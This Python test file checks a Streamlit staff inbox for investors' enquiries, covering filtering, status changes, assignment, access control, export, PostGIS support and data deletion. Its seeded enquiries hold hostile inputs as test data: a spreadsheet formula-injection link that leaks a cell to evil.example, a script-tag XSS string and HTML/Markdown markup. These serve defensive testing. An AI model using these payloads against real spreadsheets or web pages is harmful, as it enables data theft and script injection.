"""The staff inbox of investors' enquiries (issue 17 §3), signed in, on a store of the tiny dataset.

Three enquiries are seeded (newest first): Hanbit's about park A with a company that is a spreadsheet
formula (4 days after T0, new), one whose name is Markdown and HTML, about park B (1 day after, contacted,
assigned to Lan), and Kim's about park A and plot A-1 (T0, new). The officer signs in as in
``test_staff_passport.py`` (a single-sign-on identity, since ``AppTest`` cannot send the cookie); the
page runs alone, in English, on a GeoPackage store of its own, and once on PostGIS.
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pandas as pd
import pytest
import streamlit as st
from appkit import STAFF_OFFICER as OFFICER
from appkit import plain, shown
from appkit import signed_in_staff as signed_in
from streamlit.testing.v1 import AppTest

from heza_geo import i18n
from heza_geo.enquiries import RETENTION, Enquiry
from heza_geo.store import auth
from heza_geo.store.gpkg import GeoPackageStore
from heza_geo.store.sql import SqlStore
from heza_geo.ui import inbox

#: a month ago (the inbox deletes enquiries past their retention when it opens: a fixed date would age out)
T0 = datetime.now(UTC).replace(hour=9, minute=0, second=0, microsecond=0) - timedelta(days=30)
ATTACK = '=HYPERLINK("http://evil.example/?leak="&A2,"site plan")'
MARKUP = "**Lê** <b>x</b>"
KIM = Enquiry(uuid="0b8f1f8e-0000-4000-8000-000000000001", name="Kim Min-jun", company="Hanbit Electronics",
              country="KR", email="kim@hanbit.example", sector="electronics", land_ha=12.0,
              timeframe="6_to_12_months", language="ko", message="We need 12 ha near the port.", parks=("A",),
              plots=("A-1",), submitted_at=T0)
MARKED = Enquiry(uuid="0b8f1f8e-0000-4000-8000-000000000002", name=MARKUP, company="<i>Cty</i> [a](http://x.example)",
                 phone="+84 225 3823 000", message="<script>alert(1)</script>", parks=("B",),
                 submitted_at=T0 + timedelta(days=1), status="contacted", assignee=OFFICER)
FORMULA = Enquiry(uuid="0b8f1f8e-0000-4000-8000-000000000003", name="Park Ji-ho", company=ATTACK,
                  email="ji@formula.example", parks=("A",), submitted_at=T0 + timedelta(days=4))


def en(key: str, **params: object) -> str:
    return i18n.t(key, "en", **params)


def seed(store: SqlStore) -> SqlStore:
    """The tiny dataset, the officer's account and the three enquiries."""
    auth.add_account(store, OFFICER, "a-long-test-password-2026", "staff")
    for enquiry in (KIM, MARKED, FORMULA):
        assert store.add_enquiry(enquiry)
    return store


@pytest.fixture
def store(tiny_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[SqlStore]:
    """A GeoPackage store of the tiny dataset with the seed, which the page is pointed at."""
    made = GeoPackageStore(tmp_path / "store.gpkg")
    made.initialise_from(tiny_dir)
    monkeypatch.setenv("HEZA_STORE_PATH", str(tmp_path / "store.gpkg"))
    monkeypatch.setenv("HEZA_DATA_DIR", str(tiny_dir))
    monkeypatch.setenv("HEZA_LANGUAGE", "en")
    st.cache_resource.clear()
    yield seed(made)
    st.cache_resource.clear()



def tab_labels(at: AppTest) -> list[str]:
    return [tab.label for tab in at.tabs]


def listed(at: AppTest) -> pd.DataFrame:
    """The inbox's list as shown (the table headed by the enquiry's fields)."""
    [table] = [d.value for d in at.dataframe if en("enquiry.field.company") in d.value.columns]
    return table


def history(at: AppTest) -> pd.DataFrame:
    [table] = [d.value for d in at.dataframe if en("inbox.col_what") in d.value.columns]
    return table


def texts(at: AppTest) -> str:
    """The plain texts (``st.text``) on the page, a line each: the chosen enquiry's fields and message."""
    return "\n".join(str(t.value) for t in at.text)


def press(at: AppTest, label: str) -> AppTest:
    [button] = [b for b in at.button if b.label == label]
    return button.click().run()


def downloads(at: AppTest) -> list[str]:
    return [str(d.proto.label) for d in at.get("download_button") if str(d.key).startswith("inbox_")]


def choose(at: AppTest, enquiry: Enquiry) -> str:
    """Pick ``enquiry`` in the select box; the prefix of its follow-up form's keys."""
    at.selectbox(key="inbox_pick").set_value(enquiry.uuid).run()
    assert not at.exception, [e.message for e in at.exception]
    return f"inbox_{enquiry.uuid}_0_"


def filter_by(at: AppTest, **values: object) -> AppTest:
    for name, value in values.items():
        at.selectbox(key=f"inbox_{name}").set_value(value)
    return press(at, en("inbox.filter"))


def test_a_staff_member_sees_the_tab_the_counts_and_every_enquiry_newest_first(store):
    at = signed_in()
    assert en("inbox.tab") in tab_labels(at)
    assert en("inbox.count", n=2, status=en("enquiry.status.new")) in shown(at)
    assert f"{en('inbox.count', n=2, status='New')} · {en('inbox.count', n=1, status='Contacted')}" in shown(at)
    table = listed(at)
    assert list(table[en("enquiry.field.name")]) == ["Park Ji-ho", MARKUP, "Kim Min-jun"]
    kim = table.iloc[2]
    assert kim[en("enquiry.field.submitted_at")] == inbox.when(T0, "en")  # the reader's date (its doctest), UTC
    assert kim[en("enquiry.field.parks")] == "Anh Duong IP"  # the park's name in the reader's language
    assert kim[en("enquiry.field.country")] == "South Korea (KR)"
    assert kim[en("enquiry.field.land_ha")] == "12"
    assert kim[en("enquiry.field.timeframe")] == en("enquiry.timeframe.6_to_12_months")
    assert list(table[en("enquiry.field.status")]) == ["New", "Contacted", "New"]
    assert f"{en('enquiry.field.name')}: Park Ji-ho" in texts(at)  # the newest is shown first
    assert f"{en('enquiry.field.name')}: Kim Min-jun" not in texts(at)


def test_the_list_is_filtered_by_status_and_by_park(store):
    at = signed_in()
    filter_by(at, status="contacted")
    assert list(listed(at)[en("enquiry.field.name")]) == [MARKUP]
    filter_by(at, status="", park="A")
    assert list(listed(at)[en("enquiry.field.name")]) == ["Park Ji-ho", "Kim Min-jun"]
    filter_by(at, park="C")
    assert en("inbox.no_match") in [plain(i.value) for i in at.info]


def test_moving_an_enquiry_to_contacted_with_a_note_records_both_with_the_author(store):
    at = signed_in()
    form = choose(at, KIM)
    at.selectbox(key=form + "status").set_value("contacted")
    at.text_area(key=form + "note").set_value("called, site visit on 12/5")
    press(at, en("inbox.save"))
    assert not at.exception and not at.error, [plain(e.value) for e in at.error]
    assert [plain(s.value) for s in at.success] == [en("inbox.saved", status="Contacted")]
    saved = store.enquiry(KIM.uuid)
    assert saved.status == "contacted"
    assert [(e.kind, e.author, e.value) for e in saved.history[1:]] == [
        ("status", OFFICER, "contacted"), ("note", OFFICER, "called, site visit on 12/5")]
    table = listed(at)
    assert table.set_index(en("enquiry.field.name")).loc["Kim Min-jun", en("enquiry.field.status")] == "Contacted"
    assert list(history(at)[en("inbox.col_what")]) == [
        en("inbox.event.submitted"), en("inbox.event.status", status="Contacted"),
        en("inbox.event.note", note="called, site visit on 12/5")]
    assert at.text_area(key=f"inbox_{KIM.uuid}_1_note").value == ""  # the form starts afresh


def test_an_empty_change_is_refused_with_a_message_and_nothing_typed_is_lost(store):
    at = signed_in()
    form = choose(at, KIM)
    press(at, en("inbox.save"))
    assert en("enquiry.problem.nothing_to_change") in "\n".join(plain(e.value) for e in at.error)
    at.selectbox(key=form + "status").set_value("site_visit")
    at.text_area(key=form + "note").set_value("x" * 5001)
    press(at, en("inbox.save"))
    assert en("enquiry.problem.too_long", n=5001, max=5000) in "\n".join(plain(e.value) for e in at.error)
    assert at.selectbox(key=form + "status").value == "site_visit"
    assert at.text_area(key=form + "note").value == "x" * 5001
    assert store.enquiry(KIM.uuid).status == "new" and len(store.enquiry(KIM.uuid).history) == 1


def test_an_enquiry_is_assigned_to_an_account(store):
    at = signed_in()
    form = choose(at, KIM)
    assert at.selectbox(key=form + "assignee").options == [en("inbox.nobody"), OFFICER]
    at.selectbox(key=form + "assignee").set_value(OFFICER)
    press(at, en("inbox.save"))
    assert store.enquiry(KIM.uuid).assignee == OFFICER
    assert en("inbox.event.assignee", assignee=OFFICER) in list(history(at)[en("inbox.col_what")])


def test_text_an_investor_typed_shows_as_its_characters_never_as_markup(store):
    at = signed_in()
    choose(at, MARKED)
    assert f"{en('enquiry.field.name')}: {MARKUP}" in texts(at)
    assert f"{en('enquiry.field.company')}: <i>Cty</i> [a](http://x.example)" in texts(at)
    assert "<script>alert(1)</script>" in texts(at)
    assert en("inbox.notice_version", version="enquiry.privacy.v1") in texts(at)
    markdown = "\n".join(str(m.value) for m in at.markdown)
    assert "<b>" not in markdown and "<script>" not in markdown  # no enquiry text reaches Markdown


def test_the_export_buttons_name_the_rows_the_filters_keep(store):
    at = signed_in()
    assert downloads(at) == [en("inbox.download_csv", n=3), en("inbox.download_xlsx", n=3)]
    filter_by(at, status="contacted")
    assert downloads(at) == [en("inbox.download_csv", n=1), en("inbox.download_xlsx", n=1)]


def test_a_role_without_read_confidential_gets_no_tab_and_no_enquiry_text(store, monkeypatch):
    monkeypatch.setitem(auth._PERMISSIONS, "read_confidential", ("admin",))  # a staff role that may not read them
    at = signed_in()
    assert en("inbox.tab") not in tab_labels(at)
    page = shown(at) + texts(at) + "".join(d.value.to_csv() for d in at.dataframe)
    assert not any(secret in page for secret in ("Kim Min-jun", "Hanbit", "Park Ji-ho", "<b>x</b>", "HYPERLINK"))
    assert not downloads(at)


class _Untouchable:
    """A store that fails any use: the inbox must not read it for a role without the right."""

    def __getattr__(self, name: str) -> object:
        raise AssertionError(f"the inbox read the store ({name}) without the right")


@pytest.mark.parametrize("session", [None, auth.Session("", "visitor", "public", T0)])
def test_the_inbox_itself_refuses_a_role_without_the_right_before_reading_anything(session):
    assert inbox.inbox_tab(_Untouchable(), session, "en", {}) is None  # type: ignore[arg-type]  # a trap, not a store


@pytest.fixture(scope="module")
def postgres_admin() -> Iterator[str]:
    from pgcluster import throwaway  # tests/store, on the tests' path

    with throwaway("THE INBOX ON POSTGIS") as cluster:
        yield cluster.url()


def test_the_inbox_works_on_a_postgis_store(postgres_admin, tiny_dir, monkeypatch):
    import psycopg
    from pgcluster import TEMPLATE

    from heza_geo.store.postgis import PostGISStore

    with psycopg.connect(postgres_admin, autocommit=True) as conn:
        conn.execute(f'CREATE DATABASE "heza_inbox" TEMPLATE "{TEMPLATE}"')
    made = PostGISStore(postgres_admin.rsplit("/", 1)[0] + "/heza_inbox")
    made.initialise_from(tiny_dir)
    seed(made)
    monkeypatch.setenv("HEZA_DATABASE_URL", postgres_admin.rsplit("/", 1)[0] + "/heza_inbox")
    monkeypatch.setenv("HEZA_DATA_DIR", str(tiny_dir))
    monkeypatch.setenv("HEZA_LANGUAGE", "en")
    st.cache_resource.clear()
    try:
        at = signed_in()
        assert list(listed(at)[en("enquiry.field.name")]) == ["Park Ji-ho", MARKUP, "Kim Min-jun"]
        form = choose(at, KIM)
        at.selectbox(key=form + "status").set_value("contacted")
        at.text_area(key=form + "note").set_value("called")
        press(at, en("inbox.save"))
        assert [plain(s.value) for s in at.success] == [en("inbox.saved", status="Contacted")]
        assert [(e.kind, e.author) for e in made.enquiry(KIM.uuid).history[1:]] == [("status", OFFICER),
                                                                                   ("note", OFFICER)]
    finally:
        st.cache_resource.clear()


def test_an_enquiry_is_deleted_at_the_enquirers_request_only_once_the_box_is_ticked(store):
    at = signed_in()
    choose(at, KIM)
    press(at, en("inbox.erase_button"))
    assert [plain(w.value) for w in at.warning] == [en("inbox.erase_unconfirmed")]
    assert store.enquiry(KIM.uuid) is not None
    at.checkbox(key=f"inbox_erase_sure_{KIM.uuid}").check()
    press(at, en("inbox.erase_button"))
    assert not at.exception and [plain(s.value) for s in at.success] == [en("inbox.erased")]
    assert store.enquiry(KIM.uuid) is None
    assert "Kim Min-jun" not in listed(at).to_string() and "Kim Min-jun" not in texts(at)


def test_opening_the_inbox_deletes_enquiries_past_the_privacy_notices_24_months(store):
    old = Enquiry(uuid="0b8f1f8e-0000-4000-8000-000000000009", name="Old Visitor", email="old@visitor.example",
                  parks=("A",), submitted_at=datetime.now(UTC) - RETENTION - timedelta(days=1))
    assert store.add_enquiry(old, now=old.submitted_at)
    at = signed_in()
    assert store.enquiry(old.uuid) is None
    assert "Old Visitor" not in listed(at).to_string()
